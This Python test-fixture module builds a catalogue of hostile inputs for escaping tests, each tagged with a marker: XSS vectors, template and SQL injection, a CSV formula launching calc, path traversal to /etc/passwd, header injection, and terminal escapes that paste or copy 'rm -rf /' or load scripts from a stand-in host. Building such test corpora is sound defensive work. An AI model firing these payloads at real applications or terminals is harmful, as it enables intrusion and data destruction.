"""What somebody may write into a title, a comment, a branch, a log or a header to harm who looks at it.

By class, in our own words. § becomes a mark, so that a test can tell which one it met; those that would do
something call `alert(§)`, which opens a dialog that says it. Nothing of it may act, and nothing of it may reach a
page or a terminal as anything but text.
"""

from collections.abc import Iterator, Mapping
from dataclasses import dataclass
from itertools import count


@dataclass(frozen=True, slots=True)
class Hostile:
    """`mark` is plain and in no other text: where it is shown, the string was."""

    number: int
    kind: str
    text: str

    @property
    def mark(self) -> str:
        return mark(self.number)

    @property
    def is_storable(self) -> bool:
        """Half characters are in no database and in no UTF-8: they can only come as JSON's escapes."""
        return not any("\ud800" <= char <= "\udfff" for char in self.text)


def mark(number: int) -> str:
    return f"zq{number:03}qz"


SCRIPTS = (
    "<script>alert(§)</script>",
    "<SCRIPT>alert(§)</SCRIPT>",
    "<ScRiPt>alert(§)</sCrIpT>",
    "<script >alert(§)</script >",
    "<script\n>alert(§)</script\n>",
    "<script\t>alert(§)</script>",
    "<script/x>alert(§)</script>",
    "<script src=//127.0.0.2/§.js></script>",
    "<script src='data:text/javascript,alert(§)'></script>",
    "<script type=module>alert(§)</script>",
    "<script type=text/javascript>alert(§)</script>",
    "<script>alert(§)",
    "</script><script>alert(§)</script>",
    "<<script>alert(§);//<</script>",
    "<scr<script>ipt>alert(§)</scr</script>ipt>",
    "--><script>alert(§)</script><!--",
    "]]><script>alert(§)</script>",
    "</title><script>alert(§)</script>",
    "</textarea><script>alert(§)</script>",
    "</style><script>alert(§)</script>",
    "</pre></code><script>alert(§)</script>",
    "</template><script>alert(§)</script>",
    "<noscript><p title='</noscript><script>alert(§)</script>'></noscript>",
    "<!--[if gte IE 4]><script>alert(§)</script><![endif]-->",
    "\\x3cscript\\x3ealert(§)\\x3c/script\\x3e",
    "\\u003cscript\\u003ealert(§)\\u003c/script\\u003e",
    "&lt;script&gt;alert(§)&lt;/script&gt;",
    "&#60;script&#62;alert(§)&#60;/script&#62;",
    "&#x3c;script&#x3e;alert(§)&#x3c;/script&#x3e;",
    "%3Cscript%3Ealert(§)%3C/script%3E",
)
ATTRIBUTES = (
    '" onmouseover="alert(§)',
    "' onmouseover='alert(§)",
    "` onmouseover=`alert(§)",
    '"><b onclick=alert(§)>',
    "'><b onclick=alert(§)>",
    "><b onclick=alert(§)>",
    '" autofocus onfocus=alert(§) x="',
    "' autofocus onfocus=alert(§) x='",
    '" style="position:fixed;inset:0" x="',
    '"/onload=alert(§)/x="',
    '"\nonmouseover=alert(§)\nx="',
    '"\tonmouseover=alert(§)\tx="',
    '"\fonmouseover=alert(§)\fx="',
    '" formaction="javascript:alert(§)" x="',
    '" hx-get="/actions/§" hx-trigger="load" x="',
    '" hx-on:load="alert(§)" x="',
    '" data-hx-post="/api/v1/pause" data-hx-trigger="load" x="',
    '" sse-connect="/live/board" x="',
    '" id="content" x="',
    '" name="csrf" value="§" x="',
    '" target="_blank" rel="opener" x="',
    '"></a></td></tr></table></main></body></html>',
    'x" srcdoc="<script>alert(§)</script>',
    '\\" onmouseover=\\"alert(§)',
    "&quot; onmouseover=&quot;alert(§)",
)
HANDLERS = (
    "<img src=x onerror=alert(§)>",
    "<img src=x onerror='alert(§)'>",
    "<img/src=x/onerror=alert(§)>",
    "<IMG SRC=x ONERROR=alert(§)>",
    "<img src=x onerror=alert`§`>",
    "<img src=x:x onerror=&#97;lert(§)>",
    "<image src=x onerror=alert(§)>",
    "<body onload=alert(§)>",
    "<body onpageshow=alert(§)>",
    "<input autofocus onfocus=alert(§)>",
    "<select autofocus onfocus=alert(§)>",
    "<textarea autofocus onfocus=alert(§)>",
    "<button onclick=alert(§)>Approve</button>",
    "<details open ontoggle=alert(§)>",
    "<video><source onerror=alert(§)></video>",
    "<video src=x onerror=alert(§)></video>",
    "<audio src=x onerror=alert(§)>",
    "<iframe onload=alert(§)></iframe>",
    "<marquee onstart=alert(§)>x</marquee>",
    "<object data=x onerror=alert(§)></object>",
    "<style onload=alert(§)></style>",
    "<link rel=stylesheet href=x onerror=alert(§)>",
    "<a onmouseenter=alert(§) href=#>x</a>",
    "<p onpointerover=alert(§)>x</p>",
    "<div tabindex=1 onfocus=alert(§) autofocus>x</div>",
    "<xss onanimationstart=alert(§) style=animation-name:x>",
    "<dialog open onclose=alert(§)>x</dialog>",
    "<form onsubmit=alert(§)><button>x</button></form>",
)
SVG_AND_MATH = (
    "<svg onload=alert(§)>",
    "<svg/onload=alert(§)>",
    "<svg><script>alert(§)</script></svg>",
    "<svg><script href=data:text/javascript,alert(§) /></svg>",
    "<svg><a xlink:href=javascript:alert(§)><text y=20>x</text></a></svg>",
    "<svg><animate onbegin=alert(§) attribute§ame=x dur=1s>",
    "<svg><set attribute§ame=onload to=alert(§)>",
    "<svg><use href=data:image/svg+xml,<svg/onload=alert(§)>#x></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>alert(§)</script>'></foreignObject></svg>",
    "<svg><style><img src=x onerror=alert(§)></style></svg>",
    "<svg></p><style><a id='</style><img src=x onerror=alert(§)>'>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(§)></style></mglyph></table></mtext></math>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(§)>x</maction></math>",
    "<math href=javascript:alert(§)>x</math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(§)>",
    "</text></svg><script>alert(§)</script>",
    "<title>x</title><svg><title>y</title><desc>alert(§)</desc></svg>",
    "<?xml version='1.0'?><!DOCTYPE svg [<!ENTITY x 'alert(§)'>]><svg>&x;</svg>",
)
EMBEDDED = (
    "<iframe src=javascript:alert(§)></iframe>",
    "<iframe srcdoc='<script>parent.alert(§)</script>'></iframe>",
    "<embed src=javascript:alert(§)>",
    "<object data='data:text/html,<script>alert(§)</script>'></object>",
    "<base href=//127.0.0.2/§/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(§)'>",
    "<meta http-equiv=refresh content='0;url=//127.0.0.2/§'>",
    "<meta charset=utf-7>+ADw-script+AD4-alert(§)+ADw-/script+AD4-",
    "<link rel=import href=//127.0.0.2/§>",
    "<form action=//127.0.0.2/§><input name=token></form>",
    "<form id=x></form><button form=x formaction=javascript:alert(§)>x</button>",
    "<isindex action=javascript:alert(§) type=submit>",
    "<frameset onload=alert(§)>",
    "<applet code=x onerror=alert(§)>",
    "<portal src=//127.0.0.2/§>",
    "<plaintext>§",
    "<!-- §",
    "<![CDATA[ §",
    "<a name=csrf id=csrf>§</a>",
    "<img name=getElementById src=x alt=§>",
)
ADDRESSES = (
    "javascript:alert(§)",
    "JaVaScRiPt:alert(§)",
    " javascript:alert(§)",
    "\tjavascript:alert(§)",
    "java\tscript:alert(§)",
    "java\nscript:alert(§)",
    "java\rscript:alert(§)",
    "\x01javascript:alert(§)",
    "javascript&colon;alert(§)",
    "javascript&#58;alert(§)",
    "&#106;avascript:alert(§)",
    "javascript://example.com/%0Aalert(§)",
    "javascript:/*https://*/alert(§)",
    "javascript\u200b:alert(§)",
    "vbscript:msgbox(§)",
    "data:text/html,<script>alert(§)</script>",
    "data:text/html;base64,PH§jcmlwdD5hbGVydCgxKTwvc2§yaXB0Pg==#§",
    "data:image/svg+xml,<svg onload=alert(§)>",
    "blob:null/§",
    "file:///etc/passwd#§",
    "view-source:http://127.0.0.1/§",
    "//127.0.0.2/§",
    "\\\\127.0.0.2\\§",
    "/\\127.0.0.2/§",
    "http:127.0.0.2/§",
    "https://user:secret@127.0.0.2/§",
    "http://127.0.0.1:8500/api/v1/pause?§",
    "../../../../etc/passwd?§",
    "..%2f..%2f§",
    "/tasks/../api/v1/pause/§",
    '#" onclick=alert(§) x="',
    "?q=<script>alert(§)</script>",
)
MARKDOWN = (
    "[x](javascript:alert(§))",
    "[x](JAVASCRIPT:alert(§))",
    "[x]( javascript:alert(§))",
    "[x](java&#10;script:alert(§))",
    "[x](&#x6A;avascript:alert(§))",
    "[x](data:text/html,<script>alert(§)</script>)",
    "[x](<javascript:alert(§)>)",
    "[x](vbscript:msgbox(§))",
    '[x](http://127.0.0.2/§ "\\" onmouseover=alert(§) x=\\"")',
    "[x][y]\n\n[y]: javascript:alert(§)",
    "<javascript:alert(§)>",
    '<http://127.0.0.2/§"onclick=alert(§)>',
    "![x](javascript:alert(§))",
    "![x](http://127.0.0.2/§.png)",
    '![x"onerror="alert(§)](x)',
    "![x](x 'y\" onerror=\"alert(§)')",
    "```\n</code></pre><script>alert(§)</script>\n```",
    '```" onload=alert(§)\nx\n```',
    "`</code><script>alert(§)</script>`",
    "    </code></pre><img src=x onerror=alert(§)>",
    "# <img src=x onerror=alert(§)>",
    "> <script>alert(§)</script>",
    "- <details open ontoggle=alert(§)>",
    "| a | b |\n|---|---|\n| <img src=x onerror=alert(§)> | § |",
    "<div>\n\n**§**\n\n<script>alert(§)</script>\n\n</div>",
    "<!-- orchestrator:standing § -->",
    "@everyone :approved: §",
    "[^1]\n\n[^1]: <script>alert(§)</script>",
    "***§***~~x~~__y__<ins onclick=alert(§)>",
    "<a href='javascript:alert(§)'>:approved:</a>",
)
TEMPLATES = (
    "{{ 7*7 }} §",
    "{{ config }} §",
    "{{ ''.__class__.__mro__[1].__subclasses__() }} §",
    "{% raw %} §",
    "{% include '/etc/passwd' %} §",
    "{# §",
    "${7*7} §",
    "#{7*7} §",
    "<%= 7*7 %> §",
    "{§.__class__}",
    "{0.__class__.__init__.__globals__} §",
    "%(secret)s %s %d %n §",
    "{} {0} {name} §",
    "$(id) `id` $§",
    "'; DROP TABLE tasks; -- §",
    '" OR 1=1 -- §',
    "=cmd|' /C calc'!A0 §",
    "[[ § ]] {{{§}}}",
)
STYLES = (
    "<style>*{display:none}</style>§",
    "<style>@import url(//127.0.0.2/§.css);</style>",
    "<link rel=stylesheet href=//127.0.0.2/§.css>",
    "</style><style>main{position:fixed}</style>§",
    "<p style=background:url(javascript:alert(§))>x</p>",
    '<p style="width:expression(alert(§))">x</p>',
    "<p style=position:fixed;inset:0;background:red>§</p>",
    "<div class='skip' id='content'>§</div>",
    "*/}body{background:url(//127.0.0.2/§)}/*",
    "<font color=red size=7>§</font>",
    "<blink><marquee>§</marquee></blink>",
    "<p hidden>§",
)
UNSEEN = (
    "\u202egpj.exe\u202c §",
    "\u202a§\u202b\u202c\u202d",
    "\u2066§\u2067\u2068\u2069",
    "\u200e§\u200f",
    "\u061c§",
    "ap\u200bpro\u200cved\u200d §",
    "\ufeff§",
    "\u2060§\u2061\u2062\u2063\u2064",
    "\u00ad§\u00ad",
    "\u180e§",
    "\u034f§\u115f\u1160\u3164\uffa0",
    "\U000e0041\U000e0042\U000e007f §",
    "\ufe0f§\ufe00",
    "\U000e0100§",
    "§\u2028alert(§)\u2029",
    "§\u0085x",
    "§\u00a0\u2000\u2003\u3000x",
    "\ufff9§\ufffa\ufffb",
    "\ufffe§\uffff",
    "\U0001fffe§\U0010ffff",
    "\ue000§\uf8ff",
    "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324\u031e\u0349\u035a\u032f\u031e\u0320\u034d§",
    "\u0430dmin \u0410PPROVE §",
    "\uff1cscript\uff1ealert(§)\uff1c/script\uff1e",
    "\u02bascript\u02ba \u2039§\u203a",
    "\u2800\u2800§\u2800",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467 § \U0001f3f4\U000e0067\U000e0062\U000e007f",
    "\u0131§\u0130\u017f\u212a",
)
RIGHT_TO_LEFT = (
    "\u05e9\u05dc\u05d5\u05dd <script>alert(§)</script>",
    "\u0645\u0631\u062d\u0628\u0627 §",
    "\u0627\u0644\u0645\u0647\u0645\u0629 (§) \u062c\u0627\u0647\u0632\u0629!",
    "§ \u05d0\u05d1\u05d2 123 \u05d3\u05d4",
    "\u06dd\u070f §",
    "\u0600\u0601\u08e2 §",
)
ANSI = (
    "\x1b[31m§\x1b[0m",
    "\x1b[2J\x1b[H§",
    "\x1b[1A\x1b[2K§",
    "\x1b[999C§",
    "\x1b[?1049h§",
    "\x1b[?25l§",
    "\x1b[6n§",
    "\x1b[21t§",
    "\x1b[200~rm -rf /\n§\x1b[201~",
    "\x1b]0;§\x07",
    "\x1b]2;§\x1b\\",
    "\x1b]8;;javascript:alert(§)\x07x\x1b]8;;\x07",
    "\x1b]8;;http://127.0.0.2/§\x1b\\x\x1b]8;;\x1b\\",
    "\x1b]52;c;cm0gLXJmIC8K\x07§",
    "\x1b]1337;File=name=eA==;inline=1:AAAA\x07§",
    "\x1b]9;§\x07",
    "\x1bP$qm\x1b\\§",
    "\x1bP+q544e\x1b\\§",
    "\x1b_G§\x1b\\",
    "\x1b^§\x1b\\",
    "\x1bc§",
    "\x1b(0lqk§\x1b(B",
    "\x1b#8§",
    "\x1b7§\x1b8",
    "\x9b31m§\x9b0m",
    "\x9d0;§\x9c",
    "\x90q§\x9c",
    "\x1b[38;5;196m§\x1b[48;2;1;2;3m",
    "\x1b[31;<script>alert(§)</script>m",
    "^[[31m§ \\e[31m \\033[31m \\x1b[31m",
)
LINES = (
    "§\r\nSet-Cookie: orch=1",
    "§\r\n\r\n<script>alert(§)</script>",
    "§\nLocation: //127.0.0.2",
    "§\r<script>alert(§)</script>",
    "§%0d%0aSet-Cookie:x=1",
    "§\n\n\n:approved:",
    "§\ndata: {}\n\nevent: changed\ndata: <script>alert(§)</script>\n\n",
    "§\nid: 0\nretry: 1\n\n",
    '§\n{"event":"signed_in","level":"info"}',
    "§\x0bx\x0cy\x1cz\x1da\x1eb",
    "§\u2028:approved:\u2029x",
)
LONG = (
    "§" + "a" * 5000,
    "§" + "<" * 3000,
    "§" + "&" * 3000,
    "§" + "\"'" * 1500,
    "§" + "<b>" * 1000,
    "§" + "\u202e" * 1000,
    "§" + "\u0301" * 1000,
    "§" + "[" * 2000,
    "§" + "> " * 1000,
    "§" + "*_" * 1000,
    "§" + " " * 3000 + "<script>alert(§)</script>",
    "§" + "\n" * 1000,
    "§" + "\U0001f600" * 1000,
    "§" + "W" * 300 + " " + "i" * 300,
)
HALVES = ("§\ud800", "\udfff§", "§\ud83dx\ude00", "\udcc3\udca9§", "§\udc80<script>alert(§)</script>", "\ud83d§")


def _controls() -> Iterator[str]:
    """Each control character once, C0 and C1, those that other classes have as well."""
    for code in (*range(0x20), *range(0x7F, 0xA0)):
        yield f"§{chr(code)}x{chr(code)}"


CLASSES: Mapping[str, tuple[str, ...]] = {
    "scripts": SCRIPTS,
    "attributes": ATTRIBUTES,
    "handlers": HANDLERS,
    "svg and math": SVG_AND_MATH,
    "embedded": EMBEDDED,
    "addresses": ADDRESSES,
    "markdown": MARKDOWN,
    "templates": TEMPLATES,
    "styles": STYLES,
    "unseen": UNSEEN,
    "right to left": RIGHT_TO_LEFT,
    "ansi": ANSI,
    "lines": LINES,
    "long": LONG,
    "halves": HALVES,
    "controls": tuple(_controls()),
}


def _all() -> Iterator[Hostile]:
    number = count(1)
    for kind, texts in CLASSES.items():
        for text in texts:
            one = next(number)
            said = mark(one)
            marked = text.replace("alert(§)", f"alert(/{said}/)").replace("§", said)
            yield Hostile(one, kind, marked if said in marked else f"{marked}{said}")


HOSTILE = tuple(_all())
STORABLE = tuple(one for one in HOSTILE if one.is_storable)
